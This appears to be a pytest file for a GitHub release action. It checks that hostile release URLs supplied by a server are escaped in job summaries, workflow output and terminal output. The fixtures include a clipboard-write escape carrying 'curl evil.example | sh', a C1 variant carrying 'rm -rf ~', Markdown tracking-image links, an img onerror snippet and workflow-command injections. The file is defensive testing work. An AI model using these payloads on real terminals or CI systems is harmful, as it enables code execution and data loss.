"""Server text is data in what the action and the command show: issue 14's hostile `html_url`, replayed.

The sandbox answers with a release whose URLs a server (or a proxy in front of it) chose: a
Markdown image and link after the real URL, a newline and a workflow command, a terminal's
clipboard-write (OSC 52) and clear-screen sequences. The job summary must show them as text
(never a link or an image), the command's outputs table must carry no workflow command under
Actions, and a terminal must receive no escape sequence. A URL that a later check refuses when
it is read (issue 14, item 5) never reaches the output at all, which these tests also accept:
what they forbid is the injection, and each of them failed before this change.
"""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from release_bench.harness import REPO, ROOT, TAG, StepFiles, runner_env
from release_bench.runner_reader import commands_in
from release_bench.sandbox import Hostile, Sandbox

from .conftest import Action

RELEASE_ROUTES = ("get_release", "get_release_by_tag", "list_releases", "create_release", "update_release")
COMMAND = "import sys; from release_action.cli import main; sys.exit(main())"  # the console script
PROCESS_TIMEOUT = 120
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh\n").decode() + "\x07"  # OSC 52: write clipboard
CLEAR = "\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home
C1_CLIPBOARD = "\x9d52;c;" + base64.b64encode(b"rm -rf ~\n").decode() + "\x9c"  # the same, as 8-bit C1 controls
TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # tab and newline aside
OWN_COMMANDS = {"add-mask", "group", "endgroup", "error", "warning", "notice"}


def hostile_html_url(sb: Sandbox, make: Callable[[str], str]) -> None:
    """Every release answer's html_url becomes make(the real one); assets' download URLs likewise."""

    def edit(release: dict) -> dict:
        assets = [{**a, "browser_download_url": make(a["browser_download_url"])} for a in release.get("assets", [])]
        return {**release, "html_url": make(release["html_url"]), "assets": assets}

    def every(body):
        return [edit(r) for r in body] if isinstance(body, list) else edit(body)

    for route in RELEASE_ROUTES:
        sb.add_fault(route, "answer", times=1000, answer=Hostile(edit=every))


def outside_code_spans(markdown: str) -> str:
    """The Markdown with its code spans (literal text, never a link) cut out."""
    return re.sub(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", " ", markdown)


def test_the_job_summary_shows_a_hostile_url_as_text_never_as_a_link_or_an_image(sb: Sandbox, action: Action):
    # Single-line, printable, on the API's own origin: it passes any check of a URL when read,
    # and spliced into Markdown as it was, it closed the link and opened an image and a link.
    hostile_html_url(sb, lambda url: f"{url})![tracker](https://evil.example/pixel.png)[more](https://evil.example/)")
    (action.workdir / "app.bin").write_bytes(b"built\n")

    run = action.run({"tag": TAG, "notes": "n", "files": "app.bin"})

    assert run.code == 0, run
    assert "evil.example" in run.summary, "the hostile URL never reached the summary: this test proves nothing"
    prose = outside_code_spans(run.summary)
    assert "evil.example" not in prose, run.summary  # only ever inside a code span: text, not a link
    assert "![" not in prose and "](" not in prose, run.summary  # no image, and no link to a URL that is not plain
    assert "<" not in prose, run.summary


def test_every_summary_field_escapes_markdown_and_control_characters(sb: Sandbox, action: Action):
    sb.seed_release(REPO, TAG, body="n")
    hostile_html_url(sb, lambda url: f"{url}\n\n# Pwned\n<img src=x onerror=alert(1)>{CLEAR}")

    run = action.run({"tag": TAG, "notes": "n"})

    assert run.code == 0 or "`html_url`" in " ".join(run.errors), run  # refused when read, or shown as data
    assert "\n# Pwned" not in run.summary and "<img" not in outside_code_spans(run.summary), run.summary
    assert not TERMINAL_CONTROLS.search(run.summary), repr(run.summary)


def command(sb: Sandbox, cwd: Path, env: dict[str, str], *flags: str) -> subprocess.CompletedProcess[str]:
    env = {**env, "PYTHONPATH": str(ROOT), "GH_TOKEN": sb.token, "GH_ENTERPRISE_TOKEN": sb.token}
    argv = [sys.executable, "-c", COMMAND, "--tag", TAG, "--repository", REPO, "--api-url", sb.api_url, *flags]
    return subprocess.run(argv, cwd=cwd, env=env, capture_output=True, text=True, timeout=PROCESS_TIMEOUT, check=False)


def terminal_env() -> dict[str, str]:
    return {k: v for k, v in os.environ.items() if not k.startswith(("INPUT_", "GITHUB_", "RUNNER_", "GH_", "CI"))}


def test_under_actions_the_commands_outputs_table_carries_no_workflow_command(sb: Sandbox, tmp_path: Path):
    hostile_html_url(sb, lambda url: f"{url}\n::warning title=PWNED::from html_url\r::stop-commands::PWNED")
    files = StepFiles.on_host(tmp_path, 1)
    env = {**terminal_env(), **runner_env(sb.api_url, sb.token, files)}  # a `run:` step: GITHUB_ACTIONS=true

    proc = command(sb, tmp_path, env, "--notes", "n")

    injected = [(name, line) for name, line in commands_in(proc.stdout + proc.stderr) if name not in OWN_COMMANDS]
    assert injected == [], proc.stdout
    assert not [line for name, line in commands_in(proc.stdout) if "PWNED" in line], proc.stdout
    if proc.returncode == 0:  # shown, as data, on the table's one html_url line
        (line,) = [line for line in proc.stdout.splitlines() if line.startswith("html_url ")]
        assert "\\n::warning title=PWNED::from html_url\\r::stop-commands::PWNED" in line, proc.stdout


@pytest.mark.parametrize("as_json", [False, True], ids=["table", "json"])
def test_in_a_terminal_no_escape_sequence_reaches_the_screen(sb: Sandbox, tmp_path: Path, as_json: bool):
    hostile_html_url(sb, lambda url: f"{url}{CLIPBOARD}{CLEAR}{C1_CLIPBOARD}")

    proc = command(sb, tmp_path, terminal_env(), "--notes", "n", *(["--json"] if as_json else []))

    for stream in (proc.stdout, proc.stderr):
        assert not TERMINAL_CONTROLS.search(stream), repr(stream[-2000:])
    if proc.returncode == 0 and as_json:  # the JSON still holds the value, escaped
        assert json.loads(proc.stdout)["html_url"].endswith(f"{CLIPBOARD}{CLEAR}{C1_CLIPBOARD}")
    elif proc.returncode == 0:
        (line,) = [line for line in proc.stdout.splitlines() if line.startswith("html_url ")]
        assert line.endswith(f"/releases/tag/{TAG}"), repr(line)  # the sequences are cut out, the URL stays
